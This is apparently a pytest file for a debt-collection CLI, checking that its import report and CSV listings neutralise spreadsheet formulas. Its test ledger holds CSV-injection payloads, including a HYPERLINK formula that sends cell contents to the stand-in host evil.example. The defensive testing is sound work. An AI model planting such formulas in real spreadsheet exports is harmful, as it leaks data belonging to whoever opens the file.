"""The import report and ``--format csv`` listings never carry a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from dunning.cli import EXIT_PROBLEMS, cli
from dunning.workspace import init_workspace

LEDGER = """\
debtor_id,name,invoice_id,due_date,amount,city
D1,"=HYPERLINK(""http://evil.example/?""&A1)",INV-2026-00001,2026-10-01,100.00,@Brussel
D1,"=HYPERLINK(""http://evil.example/?""&A1)",INV-2026-00002,2026-10-01,-30.00,@Brussel
D2,Ann Peeters,INV-2026-00003,2026-10-01,=1+1,Gent
"""


def test_import_report_and_csv_listing_neutralise_formulas(
    tmp_path: Path, store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "ws"
    init_workspace(root)
    monkeypatch.setenv("DUNNING_DATABASE", store_url)
    ledger = root / "ledger" / "export.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    runner = CliRunner()

    imported = runner.invoke(cli, ["-w", str(root), "import", str(ledger), "--date", "2026-11-02"])

    assert imported.exit_code == EXIT_PROBLEMS, imported.output  # the =1+1 amount is rejected
    [report] = (root / "output" / "reports").glob("import-*.csv")
    problems = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
    assert [(p["line"], p["column"], p["value"]) for p in problems] == [("4", "amount", "'=1+1")]

    listed = runner.invoke(cli, ["-w", str(root), "cases", "--format", "csv"])

    assert listed.exit_code == 0
    [case] = list(csv.DictReader(io.StringIO(listed.stdout)))
    assert case["debtor"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    assert (case["principal"], case["total_due"]) == ("70.00", "70.00")
